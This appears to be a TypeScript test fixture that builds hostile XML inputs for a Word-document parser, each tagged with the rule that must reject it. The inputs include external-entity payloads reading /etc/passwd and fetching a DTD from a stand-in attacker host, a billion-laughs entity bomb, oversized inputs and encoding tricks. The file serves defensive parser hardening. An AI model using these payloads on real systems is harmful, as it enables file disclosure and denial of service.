import { attacksOf, type Attack, type AttackRow } from './attack.ts'
import { joined, utf8 } from './build-zip.ts'

const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
/** A main part with this inside its first text. */
const document = (inside: string): string => `<w:document xmlns:w="${word}"><w:body>${inside}</w:body></w:document>`
const said =
  (inside: string): (() => Uint8Array) =>
  () =>
    utf8(document(inside))
const raw =
  (text: string): (() => Uint8Array) =>
  () =>
    utf8(text)
const t = (text: string): string => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`
const latin = (text: string): Uint8Array => Uint8Array.from(text, (sign) => sign.charCodeAt(0))
const wide = (text: string, bytes: 2 | 4): Uint8Array =>
  Uint8Array.from(text, (sign) => sign.charCodeAt(0)).reduce(
    (all, code, at) => {
      all[at * bytes] = code
      return all
    },
    new Uint8Array(text.length * bytes),
  )

const entities: readonly AttackRow[] = [
  ['a DOCTYPE', 'xml-doctype', raw(`<!DOCTYPE w>${document('')}`)],
  [
    'a DOCTYPE behind a comment and an instruction',
    'xml-doctype',
    raw(`<?xml version="1.0"?>\n<!-- a --><?b c?>\n<!DOCTYPE w>${document('')}`),
  ],
  [
    'an external entity of a file',
    'xml-doctype',
    raw(`<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>${document(t('&x;'))}`),
  ],
  [
    'an external entity of the network',
    'xml-doctype',
    raw(`<!DOCTYPE w [<!ENTITY % x SYSTEM "http://attacker.invalid/x.dtd">%x;]>${document('')}`),
  ],
  ['an external DTD', 'xml-doctype', raw(`<!DOCTYPE w SYSTEM "http://attacker.invalid/x.dtd">${document('')}`)],
  ['a billion laughs', 'xml-doctype', raw(`<!DOCTYPE w [${laughs()}]>${document(t('&l9;'))}`)],
  [
    'quadratic expansion',
    'xml-doctype',
    raw(`<!DOCTYPE w [<!ENTITY a "${'a'.repeat(50_000)}">]>${document(t('&a;'.repeat(50_000)))}`),
  ],
  ['a DOCTYPE of a million quotes', 'xml-doctype', raw(`<!DOCTYPE w [${'"'.repeat(1_000_000)}`)],
  ['a DOCTYPE inside the root', 'xml-broken', said('<!DOCTYPE w>')],
  ['an entity that nobody declared', 'xml-broken', said(t('&nbsp;'))],
  ['an entity of the prototype', 'xml-broken', said(t('&constructor;&__proto__;'))],
  ['a reference to NUL', 'xml-broken', said(t('&#0;'))],
  ['a reference to half a pair', 'xml-broken', said(t('&#xD800;'))],
  ['a reference beyond Unicode', 'xml-broken', said(t('&#x110000;'))],
  ['a reference that never ends', 'xml-broken', said(`<w:t>&${'a'.repeat(100_000)}`)],
]

const large: readonly AttackRow[] = [
  ['200,000 elements deep', 'limit-xml-depth', said('<a>'.repeat(200_000))],
  [
    '200,000 elements deep, each with a namespace',
    'limit-xml-depth',
    () => utf8(document(Array.from({ length: 200_000 }, (_, nth) => `<a xmlns:p${nth}="u${nth}">`).join(''))),
  ],
  [
    '60,000 attributes',
    'limit-xml-attributes',
    () => utf8(document(`<a ${Array.from({ length: 60_000 }, (_, nth) => `a${nth}=""`).join(' ')}/>`)),
  ],
  [
    '60,000 namespaces on one element',
    'limit-xml-attributes',
    () => utf8(document(`<a ${Array.from({ length: 60_000 }, (_, nth) => `xmlns:a${nth}="u"`).join(' ')}/>`)),
  ],
  ['a text of 10 MB', 'limit-xml-text', () => utf8(document(t('a'.repeat(10_000_000))))],
  ['a text of 3 million references', 'limit-xml-text', () => utf8(document(t('&amp;'.repeat(3_000_000))))],
  ['a value of 10 MB', 'limit-xml-text', () => utf8(document(`<a b="${'a'.repeat(10_000_000)}"/>`))],
  ['a comment of 10 MB', 'limit-xml-text', () => utf8(document(`<!--${'a'.repeat(10_000_000)}-->`))],
  ['a CDATA of 10 MB', 'limit-xml-text', () => utf8(document(`<w:t><![CDATA[${']'.repeat(10_000_000)}]]></w:t>`))],
  ['an instruction of 10 MB', 'limit-xml-text', () => utf8(document(`<?a ${'?'.repeat(10_000_000)}?>`))],
  ['a name of 20 MB', 'limit-xml-text', () => utf8(document(`<${'a'.repeat(20_000_000)}/>`))],
  ['20 MB of space inside a tag', 'limit-xml-text', () => utf8(document(`<a ${' '.repeat(20_000_000)}/>`))],
  ['600,000 elements', 'limit-xml-nodes', () => utf8(document('<a/>'.repeat(600_000)))],
  ['300,000 elements with a space behind each', 'limit-xml-nodes', () => utf8(document('<a/> '.repeat(300_000)))],
  ['600,000 comments', 'limit-xml-nodes', () => utf8(document('<!---->'.repeat(600_000)))],
  ['600,000 instructions', 'limit-xml-nodes', () => utf8(document('<?a?>'.repeat(600_000)))],
  ['600,000 empty CDATA', 'limit-xml-nodes', () => utf8(document('<![CDATA[]]>'.repeat(600_000)))],
]

const encodings: readonly AttackRow[] = [
  ['bytes that are no UTF-8', 'xml-encoding', () => joined([utf8('<a>'), Uint8Array.of(0xc3, 0x28), utf8('</a>')])],
  ['an overlong form of <', 'xml-encoding', () => joined([utf8('<a>'), Uint8Array.of(0xc0, 0xbc), utf8('</a>')])],
  ['half a pair in UTF-8', 'xml-encoding', () => joined([utf8('<a>'), Uint8Array.of(0xed, 0xa0, 0x80), utf8('</a>')])],
  [
    'half a pair in UTF-16',
    'xml-encoding',
    () => joined([Uint8Array.of(0xff, 0xfe), wide('<a>', 2), Uint8Array.of(0, 0xd8), wide('</a>', 2)]),
  ],
  [
    'an odd number of bytes in UTF-16',
    'xml-encoding',
    () => joined([Uint8Array.of(0xff, 0xfe), wide('<a/>', 2), Uint8Array.of(0x20)]),
  ],
  ['UTF-7', 'xml-encoding', raw('+ADw-a+AD4-+ADw-/a+AD4-')],
  ['UTF-7 declared', 'xml-encoding', raw('<?xml version="1.0" encoding="UTF-7"?><a>+ADwAIQ-DOCTYPE</a>')],
  ['UTF-32', 'xml-encoding', () => joined([Uint8Array.of(0xff, 0xfe, 0, 0), wide('<a/>', 4)])],
  ['UTF-32 without its mark', 'xml-encoding', () => wide('<a/>', 4)],
  ['EBCDIC', 'xml-encoding', () => Uint8Array.of(0x4c, 0x6f, 0xa7, 0x94, 0x93, 0x40)],
  ['a code page declared', 'xml-encoding', () => latin('<?xml version="1.0" encoding="windows-1258"?><a/>')],
  ['UTF-16 declared on UTF-8 bytes', 'xml-encoding', raw('<?xml version="1.0" encoding="UTF-16"?><a/>')],
  ['a DOCTYPE hidden by UTF-16', 'xml-doctype', () => joined([Uint8Array.of(0xff, 0xfe), wide('<!DOCTYPE a><a/>', 2)])],
]

const broken: readonly AttackRow[] = [
  ['nothing', 'xml-broken', raw('')],
  ['only space', 'xml-broken', raw(' \n ')],
  ['text without an element', 'xml-broken', raw('KẾ HOẠCH')],
  ['NUL in a text', 'xml-broken', said(t('a\0b'))],
  ['NUL in a name', 'xml-broken', said('<a\0b/>')],
  ['U+FFFF in a text', 'xml-broken', said(t('\uffff'))],
  ['a tag that is not closed', 'xml-broken', raw(`<w:document xmlns:w="${word}"><w:body>`)],
  ['tags closed crosswise', 'xml-broken', said('<a><b></a></b>')],
  ['a closing tag too many', 'xml-broken', raw('<a/></b>')],
  ['two roots', 'xml-broken', raw('<a/><a/>')],
  ['text behind the root', 'xml-broken', raw('<a/>text')],
  ['an attribute twice', 'xml-broken', said('<a b="1" b="2"/>')],
  ['an attribute twice by two prefixes', 'xml-broken', said(`<a xmlns:v="${word}" v:val="1" w:val="2"/>`)],
  ['__proto__ twice', 'xml-broken', said('<a __proto__="1" __proto__="2"/>')],
  ['a value without quotes', 'xml-broken', said('<a b=c/>')],
  ['a value that never ends', 'xml-broken', raw('<a b="')],
  ['< in a value', 'xml-broken', said('<a b="<"/>')],
  ['a CDATA that never ends', 'xml-broken', said('<![CDATA[')],
  ['a CDATA outside the root', 'xml-broken', raw('<![CDATA[a]]><a/>')],
  [']]> in a text', 'xml-broken', said(t(']]>'))],
  ['two hyphens in a comment', 'xml-broken', said('<!-- a -- b -->')],
  ['a comment that never ends', 'xml-broken', raw('<a/><!-- ')],
  ['a second declaration', 'xml-broken', said('<?xml version="1.0"?>')],
  ['space before the declaration', 'xml-broken', raw(' <?xml version="1.0"?><a/>')],
  ['an instruction called XML', 'xml-broken', said('<?XML a?>')],
  ['XML 1.1 to let a control pass', 'xml-broken', raw('<?xml version="1.1"?><a>&#1;</a>')],
  ['a zip instead of XML', 'xml-broken', raw('PK\u0003\u0004')],
]

/** Attacks on the level of one XML part, each with the rule that must refuse it. */
export const xmlAttacks: readonly Attack[] = attacksOf('xml', [...entities, ...large, ...encodings, ...broken])

function laughs(): string {
  const more = Array.from({ length: 9 }, (_, nth) => `<!ENTITY l${nth + 1} "${`&l${nth};`.repeat(10)}">`)
  return `<!ENTITY l0 "lol">${more.join('')}`
}
